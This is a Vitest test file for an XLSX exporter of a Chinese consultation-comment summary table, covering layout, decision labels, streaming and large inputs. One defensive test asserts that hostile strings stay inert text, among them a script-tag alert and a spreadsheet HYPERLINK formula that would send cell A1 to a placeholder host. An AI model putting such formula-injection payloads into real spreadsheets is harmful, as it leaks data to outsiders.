import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import type { SummaryRow } from './consultation-report-types.js';
import { HOSTILE, SAMPLE_META, sampleRows } from './consultation-sample.js';
import {
  SUMMARY_SHEET_NAME,
  XLSX_CELL_LIMIT,
  rowHeight,
  sheetBacklog,
  summaryToXlsx,
  writeSummaryXlsx,
  xlsxText,
} from './consultation-summary-xlsx.js';

const HEADERS = ['序号', '单位', '条款', '原文', '意见', '建议修改', '理由', '处理情况', '处理理由'];

async function sheetOf(buf: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buf as unknown as ExcelJS.Buffer);
  const sheet = workbook.getWorksheet(SUMMARY_SHEET_NAME);
  if (!sheet) throw new Error(`no ${SUMMARY_SHEET_NAME} sheet`);
  return sheet;
}

async function sheetXml(buf: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(buf);
  const names = Object.keys(zip.files).filter((n) => /xl\/worksheets\/sheet\d+\.xml$/.test(n));
  expect(names).toHaveLength(1);
  return zip.file(names[0]!)!.async('string');
}

function rowTexts(sheet: ExcelJS.Worksheet, r: number): string[] {
  return HEADERS.map((_, i) => sheet.getRow(r).getCell(i + 1).text);
}

const ROW: SummaryRow = {
  seq: 1,
  unit: '省发展改革委',
  clause: '(二)推动城镇基本公共服务覆盖未落户常住人口',
  quote: '推动城镇基本公共服务由主要对本地户籍人口提供向对常住人口提供转变',
  opinion: '建议增加“随迁子女入学”的表述。\n第二段：补充住房保障。',
  suggestion: '修改为：推动城镇基本公共服务覆盖全部常住人口',
  unitReason: '随迁子女入学是市民化的关键',
  disposition: 'partly_adopted',
  reason: '随迁子女入学已在第(五)条表述',
};

function hostileRows(): SummaryRow[] {
  const texts = Object.values(HOSTILE);
  return texts.map((text, i) => ({
    seq: i + 1,
    unit: text,
    clause: text,
    quote: text,
    opinion: text,
    suggestion: text,
    unitReason: text,
    disposition: null,
    reason: text,
  }));
}

/** What the cell holds once written: CR/CRLF as LF, as every XML reader would have it anyway. */
const expected = (text: string) => text.replace(/\r\n?/g, '\n');

describe('summaryToXlsx', () => {
  it('writes the title, the header and a row of Chinese text cell by cell', async () => {
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, [ROW]));
    expect(sheet.getCell('A1').text).toBe('《湖南省推进以人为核心的新型城镇化实施方案(征求意见稿)》征求意见汇总表');
    expect(sheet.getCell('I1').isMerged).toBe(true);
    expect(sheet.getCell('I1').master.address).toBe('A1');
    expect(rowTexts(sheet, 2)).toEqual(HEADERS);
    const row = sheet.getRow(3);
    expect(row.getCell(1).value).toBe(1);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(rowTexts(sheet, 3)).toEqual([
      '1',
      ROW.unit,
      ROW.clause,
      ROW.quote,
      ROW.opinion,
      ROW.suggestion,
      ROW.unitReason,
      '部分采纳',
      ROW.reason,
    ]);
    expect(sheet.rowCount).toBe(3);
  });

  it('translates every decision, and an undecided opinion is 未处理', async () => {
    const rows: SummaryRow[] = (['adopted', 'partly_adopted', 'rejected', null] as const).map((disposition, i) => ({
      ...ROW,
      seq: i + 1,
      disposition,
    }));
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, rows));
    expect([3, 4, 5, 6].map((r) => sheet.getRow(r).getCell(8).text)).toEqual(['采纳', '部分采纳', '不采纳', '未处理']);
  });

  it('stores text that looks like a formula as text, never as a formula', async () => {
    const buf = await summaryToXlsx(SAMPLE_META, hostileRows());
    const sheet = await sheetOf(buf);
    const texts = Object.values(HOSTILE);
    texts.forEach((text, i) => {
      const row = sheet.getRow(3 + i);
      for (const col of [2, 3, 4, 5, 6, 7, 9]) {
        const cell = row.getCell(col);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.type).toBe(ExcelJS.ValueType.RichText);
        expect(cell.formula).toBeUndefined();
        expect(cell.text).toBe(expected(text));
        expect(cell.numFmt).toBe('@');
      }
    });

    const xml = await sheetXml(buf);
    expect(xml).not.toMatch(/<f[\s>/]/);
    expect(xml).not.toContain('<script>');
    expect(xml).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(xml).toContain('=HYPERLINK(&quot;http://example.invalid/?q=&quot;&amp;A1,&quot;点击查看&quot;)');
    expect(xml).toContain('&amp;amp; &amp;lt; 甲&amp;乙');
    // Text cells are inline strings; the only other kind of value is the number in 序号.
    const types = [...xml.matchAll(/<c r="[A-Z]+\d+"([^>]*)>/g)].map((m) => /t="([^"]+)"/.exec(m[1] ?? '')?.[1] ?? 'n');
    expect(new Set(types)).toEqual(new Set(['inlineStr', 'n']));
    // Leading white space survives.
    expect(xml).toContain('<t xml:space="preserve">\t=1+1</t>');
  });

  it('keeps a literal _xHHHH_ literal, since Excel would otherwise read it as an escaped character', async () => {
    expect(xlsxText('_x0041_')).toBe('_x005F_x0041_');
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, [{ ...ROW, opinion: HOSTILE.escape }]));
    expect(sheet.getRow(3).getCell(5).text).toBe(HOSTILE.escape);
  });

  it('drops characters XML cannot hold and cuts a cell at Excel’s limit', async () => {
    const long = '长'.repeat(XLSX_CELL_LIMIT + 10);
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, [{ ...ROW, unit: '省\u0007财政\u0000厅', opinion: long }]));
    expect(sheet.getRow(3).getCell(2).text).toBe('省财政厅');
    const opinion = sheet.getRow(3).getCell(5).text;
    expect(opinion.length).toBe(XLSX_CELL_LIMIT);
    expect(opinion.endsWith('已截断)')).toBe(true);
  });

  it('borders empty cells, wraps text, freezes the header and prints A4 landscape with the header repeated', async () => {
    const buf = await summaryToXlsx(SAMPLE_META, [{ ...ROW, quote: null, suggestion: null, reason: null, disposition: null }]);
    const sheet = await sheetOf(buf);
    const empty = sheet.getRow(3).getCell(4);
    expect(empty.value).toBeNull();
    expect(empty.border).toMatchObject({ top: { style: 'thin' }, bottom: { style: 'thin' }, left: { style: 'thin' }, right: { style: 'thin' } });
    expect(sheet.getRow(3).getCell(5).alignment).toMatchObject({ wrapText: true, vertical: 'top' });
    expect(sheet.getRow(2).getCell(1).font).toMatchObject({ bold: true });
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(sheet.columns.map((c) => c.width)).toEqual([5, 12, 18, 24, 32, 24, 20, 8, 22]);
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(sheet.pageSetup.printTitlesRow).toBe('2:2');
    expect(sheet.autoFilter).toBe('A2:I3');
  });

  it('takes rows from an async iterator', async () => {
    async function* rows(): AsyncGenerator<SummaryRow> {
      for (const row of sampleRows(3)) {
        await new Promise((resolve) => setTimeout(resolve, 1));
        yield row;
      }
    }
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, rows()));
    expect(sheet.rowCount).toBe(5);
    expect(sheet.getRow(5).getCell(1).value).toBe(3);
  });

  it('writes no rows as a title and a header only', async () => {
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, []));
    expect(sheet.rowCount).toBe(2);
    expect(rowTexts(sheet, 2)).toEqual(HEADERS);
  });

  it('writes 10,000 opinions from 50 units, every one of them', async () => {
    const rows = [...sampleRows(10_000, 50)];
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, rows));
    expect(sheet.rowCount).toBe(10_002);
    const units = new Set<string>();
    for (let r = 3; r <= 10_002; r++) units.add(sheet.getRow(r).getCell(2).text);
    expect(units.size).toBe(50);
    const last = rows[9_999]!;
    expect(rowTexts(sheet, 10_002)).toEqual([
      '10000',
      last.unit,
      last.clause,
      last.quote ?? '',
      last.opinion,
      last.suggestion ?? '',
      last.unitReason ?? '',
      '未处理',
      last.reason ?? '',
    ]);
  });

  it('waits for a slow reader instead of queueing the file in memory', async () => {
    const chunks: Buffer[] = [];
    let waited = 0;
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk);
        waited++;
        setTimeout(callback, 1);
      },
    });
    await writeSummaryXlsx(SAMPLE_META, sampleRows(2_000), slow);
    expect(waited).toBeGreaterThan(1);
    expect((await sheetOf(Buffer.concat(chunks))).rowCount).toBe(2_002);
  });

  it('still finds where exceljs queues the sheet for the zip (the back-pressure probe)', () => {
    const sink = new Writable({ write: (_chunk, _encoding, callback) => callback() });
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: sink });
    const backlog = sheetBacklog(workbook.addWorksheet('x'));
    expect(backlog).not.toBeNull();
    expect(backlog?.pending()).toBe(0);
  });
});

describe('意见汇总表 rows as clerks print them (issue 12)', () => {
  it('grows each row to fit its longest wrapped cell, so nothing is clipped on paper', async () => {
    const long = { ...ROW, opinion: '建议'.repeat(80) };
    const sheet = await sheetOf(await summaryToXlsx(SAMPLE_META, [ROW, long]));
    const short = sheet.getRow(3).height;
    const tall = sheet.getRow(4).height;
    expect(short).toBeGreaterThanOrEqual(14.5 * 2);
    // 160 Chinese characters in a column 32 wide: 320 units over 31 a line, 11 lines.
    expect(tall).toBeCloseTo(11 * 14.5 + 4, 1);
    expect(rowHeight(['一'.repeat(10)], [21])).toBe(14.5 + 4);
  });

  it('prints a unit that had no opinion or did not reply as a line of its own, without a decision', async () => {
    const sheet = await sheetOf(
      await summaryToXlsx(SAMPLE_META, [
        { seq: 1, unit: '省教育厅', clause: '', quote: null, opinion: '无意见', suggestion: null, disposition: null, reason: null, kind: 'no_opinion' },
        { seq: 2, unit: '省民政厅', clause: '', quote: null, opinion: '逾期未反馈', suggestion: null, disposition: null, reason: null, kind: 'missing' },
      ]),
    );
    expect(rowTexts(sheet, 3)).toEqual(['1', '省教育厅', '', '', '无意见', '', '', '', '']);
    expect(rowTexts(sheet, 4)[4]).toBe('逾期未反馈');
  });
});
